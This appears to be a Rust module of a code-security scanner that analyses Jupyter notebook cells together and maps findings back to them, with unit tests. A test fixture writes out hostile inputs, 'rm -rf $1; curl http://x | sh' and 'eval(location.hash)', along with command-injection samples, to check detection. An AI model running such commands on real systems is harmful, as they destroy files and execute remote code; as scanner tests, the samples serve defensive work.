//! Scanning a notebook: its code cells as one program, findings mapped back to the cells.

use std::path::Path;

use crate::config::ScanSettings;
use crate::engine::ScanCache;
use crate::engine::{self, Notice, Source};
use crate::finding::{Edit, Finding, Fix};
use crate::lang::{parse_str, Language};
use crate::suppress::Suppressions;
use crate::text::LineIndex;

use super::program::{CellSource, Program};

/// What a scan of a notebook found, cell by cell.
#[derive(Debug, Default)]
pub struct NotebookOutput {
    /// Findings per input cell (same indices as the input), with cell-local byte ranges, sorted.
    pub cells: Vec<Vec<Finding>>,
    /// Notices (such as the express size limit), on the first analysed cell.
    pub notices: Vec<(usize, Notice)>,
    /// Number of syntax errors in the program (after IPython syntax was neutralised).
    pub syntax_errors: usize,
    /// Ids of detectors that panicked.
    pub failed_detectors: Vec<&'static str>,
}

/// Scans the code cells of a notebook together, in order, as one Python program.
pub fn scan(
    cells: &[CellSource<'_>],
    path: Option<&Path>,
    settings: &ScanSettings,
) -> NotebookOutput {
    scan_with_cache(cells, path, settings, None)
}

/// Like [`scan`], reusing and updating the scan cache of an open notebook so only the code
/// an edit can affect is re-analysed.
pub fn scan_with_cache(
    cells: &[CellSource<'_>],
    path: Option<&Path>,
    settings: &ScanSettings,
    cache: Option<&mut ScanCache>,
) -> NotebookOutput {
    let program = Program::build(cells);
    let source = Source {
        text: &program.text,
        language: Language::Python,
        path,
        tree: None,
    };
    let output = match cache {
        Some(cache) => engine::scan_incremental(source, settings, cache),
        None => engine::scan(source, settings),
    };
    let mut result = NotebookOutput {
        cells: vec![Vec::new(); cells.len()],
        syntax_errors: output.syntax_errors.len(),
        failed_detectors: output.failed_detectors,
        ..NotebookOutput::default()
    };
    let lines = LineIndex::new(&program.text);
    for finding in output.findings {
        if let Some((cell, mut local)) = to_cell(&program, finding) {
            local.message = cell_lines(&local.message, &program, &lines, cell);
            if program.touches_rewritten(cell, &local.range) {
                local.message = shell_subject(&local.message);
            }
            if let Some(list) = result.cells.get_mut(cell) {
                list.push(local);
            }
        }
    }
    if super::order::CHECKS
        .iter()
        .any(|meta| super::order::selected(meta, settings))
    {
        for finding in execution_order(&program, settings) {
            if let Some((cell, local)) = to_cell(&program, finding) {
                if let Some(list) = result.cells.get_mut(cell) {
                    list.push(local);
                }
            }
        }
        for list in &mut result.cells {
            list.sort_by(|a, b| (a.range.start, a.rule.id).cmp(&(b.range.start, b.rule.id)));
        }
    }
    if let Some(first) = program.cells().next() {
        result.notices = output
            .notices
            .into_iter()
            .map(|n| {
                (
                    first,
                    Notice {
                        range: 0..0,
                        message: n.message,
                    },
                )
            })
            .collect();
    }
    result
}

/// Rewrites the program line numbers a message cites (``(`input`, line 12)``, from
/// [`crate::detectors::describe_origin`]) as lines of their cell: ``line 2`` in the finding's own
/// cell, ``cell 3, line 2`` in another (cells numbered from 1 among all cells).
fn cell_lines(message: &str, program: &Program, lines: &LineIndex, finding_cell: usize) -> String {
    const MARK: &str = "`, line ";
    let mut out = String::with_capacity(message.len());
    let mut rest = message;
    while let Some(at) = rest.find(MARK) {
        let (before, after) = rest.split_at(at + MARK.len());
        out.push_str(before);
        let digits = after.bytes().take_while(u8::is_ascii_digit).count();
        let relocated = after[..digits]
            .parse::<usize>()
            .ok()
            .and_then(|line| line.checked_sub(1))
            .and_then(|line| {
                let (cell, _) = program.to_cell(lines.line_start(line))?;
                let first = lines.line_of(program.to_program(cell, 0)?);
                Some((cell, line - first + 1))
            });
        match relocated {
            Some((cell, line)) if cell == finding_cell => {
                out.truncate(out.len() - MARK.len());
                out.push_str(&format!("`, line {line}"));
            }
            Some((cell, line)) => {
                out.truncate(out.len() - MARK.len());
                out.push_str(&format!("`, cell {}, line {line}", cell + 1));
            }
            None => out.push_str(&after[..digits]),
        }
        rest = &after[digits..];
    }
    out.push_str(rest);
    out
}

/// The findings of the selected notebook execution-order checks that no comment suppresses.
fn execution_order(program: &Program, settings: &ScanSettings) -> Vec<Finding> {
    let Some(tree) = parse_str(Language::Python, &program.text) else {
        return Vec::new();
    };
    let lines = LineIndex::new(&program.text);
    let suppressions = Suppressions::collect(
        &program.text,
        Some(&tree),
        Language::Python,
        settings.honor_foreign_suppressions,
        &lines,
    );
    let mut findings = Vec::new();
    if super::order::selected(&super::order::META, settings) {
        findings.extend(super::order::check(program, &tree));
    }
    if super::order::selected(&super::order::REDEFINITION, settings) {
        findings.extend(super::order::check_redefinitions(program, &tree));
    }
    findings
        .into_iter()
        .filter(|f| !suppressions.is_suppressed(lines.line_of(f.range.start), f.rule.id))
        .collect()
}

/// The callee of a rewritten shell command is an implementation detail: name what the user wrote.
fn shell_subject(message: &str) -> String {
    const CALLEE: &str = "`IPython.InteractiveShell.system`";
    match message.strip_prefix(CALLEE) {
        Some(rest) => format!("This IPython shell command (`!cmd`, `%system`, `%sx`){rest}"),
        None => message.to_string(),
    }
}

/// A program finding as a finding of the cell holding its start; `None` when it starts outside
/// every cell (the prelude). Fixes that would edit another cell, or text rewritten from IPython
/// syntax, are dropped.
fn to_cell(program: &Program, finding: Finding) -> Option<(usize, Finding)> {
    let (cell, range) = program.range_to_cell(&finding.range)?;
    let fixes = finding
        .fixes
        .into_iter()
        .filter_map(|fix| {
            let edits = fix
                .edits
                .iter()
                .map(|edit| {
                    let (edit_cell, local) = program.range_to_cell(&edit.range)?;
                    let whole = local.len() == edit.range.len();
                    (edit_cell == cell && whole && !program.touches_rewritten(cell, &local))
                        .then(|| Edit::replace(local, edit.replacement.clone()))
                })
                .collect::<Option<Vec<_>>>()?;
            Some(Fix {
                title: fix.title,
                edits,
                applicability: fix.applicability,
            })
        })
        .collect();
    Some((
        cell,
        Finding {
            range,
            fixes,
            ..finding
        },
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::ScanType;

    fn standard() -> ScanSettings {
        ScanSettings {
            scan_type: ScanType::Standard,
            ..ScanSettings::default()
        }
    }

    fn code(text: &str) -> CellSource<'_> {
        CellSource { text, code: true }
    }

    fn rules(findings: &[Finding]) -> Vec<&'static str> {
        findings.iter().map(|f| f.rule.id).collect()
    }

    #[test]
    fn imports_and_taint_flow_across_cells() {
        let cells = [
            code("import subprocess as sp\n"),
            CellSource {
                text: "Some *markdown*",
                code: false,
            },
            code("%matplotlib inline\nname = input()\n"),
            code("x = 1\nsp.call('ls ' + name, shell=True)\n"),
        ];
        let out = scan(&cells, None, &standard());
        assert!(out.cells[0].is_empty() && out.cells[1].is_empty() && out.cells[2].is_empty());
        assert_eq!(
            rules(&out.cells[3]),
            vec!["python/os-command-injection@v1.0"]
        );
        let cell = cells[3].text;
        assert_eq!(&cell[out.cells[3][0].range.clone()], "'ls ' + name");
        let message = &out.cells[3][0].message;
        assert!(message.contains("(`input`, cell 3, line 2)"), "{message}");
        assert_eq!(out.syntax_errors, 0);
    }

    #[test]
    fn tainted_shell_escapes_are_command_injection() {
        let cells = [
            code("name = input()\n"),
            code("# list it\n!ls -l {name} | head\n"),
            code("!ls -l {'safe'}\n!echo $HOME\n"),
            code("files = !ls {name}\n%sx cat $name\n"),
        ];
        let out = scan(&cells, None, &standard());
        assert!(out.cells[0].is_empty());
        assert_eq!(
            rules(&out.cells[1]),
            vec!["python/os-command-injection@v1.0"]
        );
        let flagged = &cells[1].text[out.cells[1][0].range.clone()];
        assert!(flagged.contains("name"), "{flagged:?}");
        assert!(out.cells[1][0].fixes.is_empty());
        assert!(out.cells[1][0]
            .message
            .contains("(`input`, cell 1, line 1)"));
        let shell = &out.cells[3][0].message;
        assert!(
            shell.starts_with("This IPython shell command (`!cmd`"),
            "{shell}"
        );
        assert!(out.cells[2].is_empty(), "{:?}", out.cells[2]);
        assert_eq!(out.cells[3].len(), 2);
        assert_eq!(out.syntax_errors, 0);
    }

    #[test]
    fn cell_magics_never_give_findings() {
        let cells = [
            code("%%bash\nrm -rf $1; curl http://x | sh\n"),
            code("%%javascript\neval(location.hash)\n"),
            code("%%time\nimport hashlib\nhashlib.md5(b'x')\n"),
        ];
        let out = scan(&cells, None, &standard());
        assert!(out.cells[0].is_empty() && out.cells[1].is_empty());
        assert_eq!(rules(&out.cells[2]), vec!["python/insecure-hashing@v1.0"]);
        assert_eq!(out.syntax_errors, 0);
    }

    #[test]
    fn execution_order_is_a_quality_check() {
        let cells = [
            code("print(total)  # codeward: ignore[notebook-invalid-execution-order]\n"),
            code("print(count)\n"),
            code("total = count = 1\n"),
        ];
        assert!(scan(&cells, None, &standard()).cells[1].is_empty());
        let all = ScanSettings {
            analysis_type: crate::config::AnalysisType::All,
            ..standard()
        };
        let out = scan(&cells, None, &all);
        assert!(out.cells[0].is_empty(), "suppressed: {:?}", out.cells[0]);
        assert_eq!(
            rules(&out.cells[1]),
            vec!["python/notebook-invalid-execution-order@v1.0"]
        );
        assert!(out.cells[1][0]
            .message
            .contains("only defined in cell 3 below"));
        let disabled = ScanSettings {
            disabled_rules: vec!["notebook-invalid-execution-order".into()],
            ..all.clone()
        };
        assert!(scan(&cells, None, &disabled).cells[1].is_empty());
        let redefined = [code("n = 1\n"), code("print(n)\n"), code("n = 2\n")];
        assert_eq!(
            rules(&scan(&redefined, None, &all).cells[2]),
            vec!["python/notebook-variable-redefinition@v1.0"]
        );
    }

    #[test]
    fn fixes_stay_in_their_cell() {
        let cells = [code("import hashlib\n"), code("h = hashlib.md5(b'x')\n")];
        let out = scan(&cells, None, &standard());
        let finding = out.cells[1].first().expect("a finding in cell 2");
        for fix in &finding.fixes {
            for edit in &fix.edits {
                assert!(edit.range.end <= cells[1].text.len());
            }
        }
    }
}
